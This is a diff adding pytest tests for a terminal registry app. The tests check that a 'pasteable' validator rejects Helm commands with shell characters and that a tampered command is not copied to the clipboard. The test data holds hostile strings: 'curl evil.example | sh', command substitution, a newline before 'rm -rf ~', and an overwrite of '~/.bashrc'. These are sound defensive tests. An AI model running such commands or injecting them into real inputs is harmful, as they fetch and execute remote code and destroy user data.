@@ -24,7 +24,7 @@ from flextui.sim.world import ADMIN, CUSTOMER
 from flextui.ui.app import FlexApp
 from flextui.ui.screens.registry.common import MASK
 from flextui.ui.screens.registry.downloads import DownloadsScreen
-from flextui.ui.screens.registry.projects import ArtifactsScreen, ChartDetailScreen, ProjectScreen, ProjectsScreen
+from flextui.ui.screens.registry.projects import ArtifactsScreen, ChartDetailScreen, ProjectScreen, ProjectsScreen, pasteable
 from flextui.ui.screens.registry.secret import SecretScreen
 from flextui.ui.widgets.bars import StatusLine
 from flextui.ui.widgets.chart import BarChart
@@ -271,6 +271,39 @@ async def test_chart_detail_lists_versions_and_copies_the_helm_command() -> None
         await pilot.press("escape")
         await pilot.pause()
         assert isinstance(app.screen, ProjectScreen)
+
+
+@pytest.mark.parametrize(
+    ("command", "ok"),
+    [
+        ("helm pull oci://registry.flexdemo.example/1107-hello/compass --version 0.6.0", True),
+        ("helm pull oci://r.example/p/c --version 1.2.3-rc.1+build_7", True),
+        ("helm pull oci://r.example/p/c; curl evil.example | sh", False),
+        ("helm pull $(curl evil.example)", False),
+        ("helm pull `id`", False),
+        ("helm pull 'x' --version 1", False),
+        ("helm pull x\nrm -rf ~", False),
+        ("curl evil.example", False),
+        ("helm pull x > ~/.bashrc", False),
+    ],
+)
+def test_a_helm_command_is_pasteable_only_without_shell_characters(command: str, ok: bool) -> None:
+    assert pasteable(command) is ok
+
+
+async def test_a_hostile_helm_command_is_not_copied_the_chart_url_is() -> None:
+    app = build_app(start=["charts", "compass-2026-q2"])
+    async with app.run_test(size=(120, 40)) as pilot:
+        await settle(pilot)
+        await pilot.press("enter")
+        await until(pilot, lambda: isinstance(app.screen, ChartDetailScreen))
+        modal = app.screen
+        assert isinstance(modal, ChartDetailScreen)
+        version = modal.chart.versions[0]
+        object.__setattr__(version, "helm_command", f"helm pull {version.urls[0]}; curl evil.example | sh")
+        await pilot.press("c")
+        await until(pilot, lambda: app.clipboard == version.urls[0])
+        assert "evil" not in app.clipboard
 
 
 async def test_delete_chart_asks_names_it_and_cancel_keeps_it() -> None:
